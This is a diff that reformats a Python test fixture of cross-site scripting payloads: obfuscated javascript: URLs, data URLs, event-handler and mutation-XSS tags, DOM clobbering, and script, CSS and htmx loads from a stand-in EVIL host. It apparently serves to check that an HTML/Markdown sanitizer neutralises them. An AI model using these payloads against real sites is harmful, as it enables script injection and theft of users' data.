@@ -25,12 +25,32 @@ NESTING = (90, 1_000)  # nested lists and quotes: rendered (the body), then too 
 # --- URLs that would run script, in every spelling a browser or a Markdown parser may decode ---
 
 SCRIPT_SCHEMES = [
-    "javascript:", "JaVaScRiPt:", "JAVASCRIPT:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:",
-    "java\rscript:", "\x01javascript:", "jav&#x09;ascript:", "jav&#9;ascript:", "&#106;avascript:", "&#x6A;avascript:",
-    "&#X6a;avascript:", "&#0000106;avascript:", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A",
-    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58", "javascript&colon;", "javascript&#58;", "javascript&#x3a;",
-    "%6A%61%76%61%73%63%72%69%70%74:", "vbscript:", "VbScRiPt:", "&#118;bscript:", "livescript:",
-]  # fmt: skip
+    "javascript:",
+    "JaVaScRiPt:",
+    "JAVASCRIPT:",
+    " javascript:",
+    "\tjavascript:",
+    "java\tscript:",
+    "java\nscript:",
+    "java\rscript:",
+    "\x01javascript:",
+    "jav&#x09;ascript:",
+    "jav&#9;ascript:",
+    "&#106;avascript:",
+    "&#x6A;avascript:",
+    "&#X6a;avascript:",
+    "&#0000106;avascript:",
+    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A",
+    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58",
+    "javascript&colon;",
+    "javascript&#58;",
+    "javascript&#x3a;",
+    "%6A%61%76%61%73%63%72%69%70%74:",
+    "vbscript:",
+    "VbScRiPt:",
+    "&#118;bscript:",
+    "livescript:",
+]
 SCRIPT_HTML = f"<script>{RUN}</script>"
 SVG = "http://www.w3.org/2000/svg"
 DATA_URLS = [
@@ -39,32 +59,53 @@ DATA_URLS = [
     "&#100;ata:text/html;base64," + base64.b64encode(SCRIPT_HTML.encode()).decode(),
     "data:image/svg+xml;base64," + base64.b64encode(f'<svg xmlns="{SVG}" onload="{RUN}"/>'.encode()).decode(),
     f"data:text/javascript,{RUN}",
-]  # fmt: skip
+]
 HOSTILE_URLS = [scheme + RUN for scheme in SCRIPT_SCHEMES] + DATA_URLS
 
 # Where a URL can hide, in raw HTML and in Markdown. {url} is replaced as it is, entities and all.
 URL_PLACES = [
-    '<a href="{url}">link</a>', "<a href='{url}'>link</a>", '<img src="{url}">', '<img srcset="{url} 1x">',
-    '<iframe src="{url}"></iframe>', '<form action="{url}"><button>send</button></form>',
+    '<a href="{url}">link</a>',
+    "<a href='{url}'>link</a>",
+    '<img src="{url}">',
+    '<img srcset="{url} 1x">',
+    '<iframe src="{url}"></iframe>',
+    '<form action="{url}"><button>send</button></form>',
     '<form><button formaction="{url}">send</button><input type="submit" formaction="{url}"></form>',
-    '<object data="{url}"></object>', '<embed src="{url}">', '<base href="{url}">',
-    '<meta http-equiv="refresh" content="0;url={url}">', '<link rel="stylesheet" href="{url}">',
-    '<link rel="prefetch" href="{url}">', '<svg><a xlink:href="{url}"><text y="20">svg link</text></a></svg>',
+    '<object data="{url}"></object>',
+    '<embed src="{url}">',
+    '<base href="{url}">',
+    '<meta http-equiv="refresh" content="0;url={url}">',
+    '<link rel="stylesheet" href="{url}">',
+    '<link rel="prefetch" href="{url}">',
+    '<svg><a xlink:href="{url}"><text y="20">svg link</text></a></svg>',
     '<math><maction actiontype="statusline" xlink:href="{url}">math link</maction></math>',
-    '<video poster="{url}" src="{url}"></video>', '<input type="image" src="{url}">',
+    '<video poster="{url}" src="{url}"></video>',
+    '<input type="image" src="{url}">',
     '<table background="{url}"><tr><td>cell</td></tr></table>',
-    "[markdown link]({url})", "![markdown image]({url})", "[angle link](<{url}>)", "<{url}>",
-    "[reference link][ref-{n}]\n\n[ref-{n}]: {url}", '[titled reference][t-{n}]\n\n[t-{n}]: <{url}> "title"',
+    "[markdown link]({url})",
+    "![markdown image]({url})",
+    "[angle link](<{url}>)",
+    "<{url}>",
+    "[reference link][ref-{n}]\n\n[ref-{n}]: {url}",
+    '[titled reference][t-{n}]\n\n[t-{n}]: <{url}> "title"',
     "[![image in a link]({url})]({url})",
-]  # fmt: skip
+]
 
 # --- Raw HTML: tags, handlers, mutation XSS, clobbering, styles ---
 
 RAW_HTML = [
-    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f'<script src="{EVIL}/script.js"></script>',
-    f"<script/xss>{RUN}</script>", f"<<script>{RUN}//<</script>", f'<img src=x onerror="{RUN}">',
-    f"<img src=x onerror={RUN.replace(';', ',')}>", f'<IMG SRC=x OnErRoR="{RUN}">', '<img src="x" onerror="alert(1)">',
-    f'<body onload="{RUN}">', f'<svg onload="{RUN}"><circle r="5"/></svg>', f"<svg><script>{RUN}</script></svg>",
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f'<script src="{EVIL}/script.js"></script>',
+    f"<script/xss>{RUN}</script>",
+    f"<<script>{RUN}//<</script>",
+    f'<img src=x onerror="{RUN}">',
+    f"<img src=x onerror={RUN.replace(';', ',')}>",
+    f'<IMG SRC=x OnErRoR="{RUN}">',
+    '<img src="x" onerror="alert(1)">',
+    f'<body onload="{RUN}">',
+    f'<svg onload="{RUN}"><circle r="5"/></svg>',
+    f"<svg><script>{RUN}</script></svg>",
     f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
     f'<svg><set attributeName="onmouseover" to="{RUN}"/></svg>',
     f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text y="20">animated</text></a></svg>',
@@ -74,19 +115,29 @@ RAW_HTML = [
     f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
     f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
     f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
-    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<template><script>{RUN}</script></template>",
-    f"<xmp><img src=x onerror={RUN}></xmp>", f"<textarea><img src=x onerror={RUN}></textarea>",
-    f"<title><img src=x onerror={RUN}></title>", f"<noembed><img src=x onerror={RUN}></noembed>",
-    f"<iframe srcdoc=\"<script>{RUN.replace(chr(39), '&#39;')}</script>\"></iframe>",
-    f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><img src=x onerror={RUN}>]]>",
-    f'<?xml-stylesheet href="{EVIL}/x.xsl"?>', f'<div onmouseover="{RUN}">hover me</div>',
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"<template><script>{RUN}</script></template>",
+    f"<xmp><img src=x onerror={RUN}></xmp>",
+    f"<textarea><img src=x onerror={RUN}></textarea>",
+    f"<title><img src=x onerror={RUN}></title>",
+    f"<noembed><img src=x onerror={RUN}></noembed>",
+    f'<iframe srcdoc="<script>{RUN.replace(chr(39), "&#39;")}</script>"></iframe>',
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[><img src=x onerror={RUN}>]]>",
+    f'<?xml-stylesheet href="{EVIL}/x.xsl"?>',
+    f'<div onmouseover="{RUN}">hover me</div>',
     f'<details open ontoggle="{RUN}"><summary>toggle</summary>opened</details>',
-    f'<input autofocus onfocus="{RUN}">', f'<select autofocus onfocus="{RUN}"></select>',
-    f'<marquee onstart="{RUN}">marquee</marquee>', f'<video><source onerror="{RUN}"></video>',
-    f'<a href="#" onclick="{RUN}">click me</a>', f'<p style="animation-name:x" onanimationstart="{RUN}">animated</p>',
+    f'<input autofocus onfocus="{RUN}">',
+    f'<select autofocus onfocus="{RUN}"></select>',
+    f'<marquee onstart="{RUN}">marquee</marquee>',
+    f'<video><source onerror="{RUN}"></video>',
+    f'<a href="#" onclick="{RUN}">click me</a>',
+    f'<p style="animation-name:x" onanimationstart="{RUN}">animated</p>',
     f'<object data="{EVIL}/object.swf" type="application/x-shockwave-flash"></object>',
-    f'<embed src="{EVIL}/embed.swf">', f'<applet code="x" codebase="{EVIL}/"></applet>',
-    f'<isindex action="javascript:{RUN}" type="image">', f'<frameset onload="{RUN}"></frameset>',
+    f'<embed src="{EVIL}/embed.swf">',
+    f'<applet code="x" codebase="{EVIL}/"></applet>',
+    f'<isindex action="javascript:{RUN}" type="image">',
+    f'<frameset onload="{RUN}"></frameset>',
     f'<style>@import url("{EVIL}/import.css"); body {{ display: none; background: url({EVIL}/bg.png) }} '
     f"* {{ width: expression({RUN}) }}</style>",
     f'<div style="background-image:url({EVIL}/style.png);width:expression({RUN});'
@@ -98,7 +149,7 @@ RAW_HTML = [
     f'<div hx-get="{EVIL}/htmx" hx-trigger="load" hx-swap="outerHTML">htmx load</div>',
     f'<div hx-on:htmx:load="{RUN}" hx-on::load="{RUN}">htmx on</div>',
     f'<a data-hx-post="{EVIL}/htmx-post" data-hx-trigger="load">data-hx</a>',
-    f"<div hx-vals='js:{{a: {RUN}}}' hx-post=\"/\" hx-trigger=\"load\">hx-vals</div>",
+    f'<div hx-vals=\'js:{{a: {RUN}}}\' hx-post="/" hx-trigger="load">hx-vals</div>',
     f'<a data-key="j" href="{EVIL}/hijack-j">j hijack</a> <a data-reload href="{EVIL}/reload">reload</a>',
     # DOM clobbering: names and ids that our scripts, htmx or the canary check would read.
     '<a id="__pwned" href="#">clobber the canary</a> <img name="__pwned" src="x">',
@@ -107,8 +158,8 @@ RAW_HTML = [
     '<input type="hidden" name="csrfmiddlewaretoken" value="stolen"> <div id="issue-body">fake body</div>',
     f'<a href="{EVIL}/tabnabbing" target="_blank">new tab</a>',
     '<a href="/admin/" id="x" class="button primary" style="position:fixed;inset:0">cover the page</a>',
-    "<div class=\"workspace codebook-pane save-state\">page classes</div>",
-]  # fmt: skip
+    '<div class="workspace codebook-pane save-state">page classes</div>',
+]
 
 # Markdown that GitHub users write, with the HTML inside code where it must stay text.
 MARKDOWN_TRICKS = [
@@ -183,13 +234,15 @@ def code_block_body() -> str:
 def nested(depth: int) -> str:
     """Lists, quotes, emphasis and brackets `depth` deep, with payloads at the bottom."""
     indented = "\n".join("    " * level + f"- level {level}" for level in range(min(depth, 100)))
-    return "\n\n".join([
-        f"Deeply nested ({SEARCH_WORD}, {depth}):",
-        indented + "\n" + "    " * min(depth, 100) + f"- <img src=x onerror={RUN}> [deep](javascript:{RUN})",
-        "- " * depth + f"<img src=x onerror={RUN}>",
-        "> " * depth + f"quoted <script>{RUN}</script>",
-        "*" * depth + "emphasis" + "_" * depth + "[" * depth + f"<img src=x onerror={RUN}>",
-    ])  # fmt: skip
+    return "\n\n".join(
+        [
+            f"Deeply nested ({SEARCH_WORD}, {depth}):",
+            indented + "\n" + "    " * min(depth, 100) + f"- <img src=x onerror={RUN}> [deep](javascript:{RUN})",
+            "- " * depth + f"<img src=x onerror={RUN}>",
+            "> " * depth + f"quoted <script>{RUN}</script>",
+            "*" * depth + "emphasis" + "_" * depth + "[" * depth + f"<img src=x onerror={RUN}>",
+        ]
+    )
 
 
 def rest_issue(number: int, title: str, body: str, **fields) -> dict:
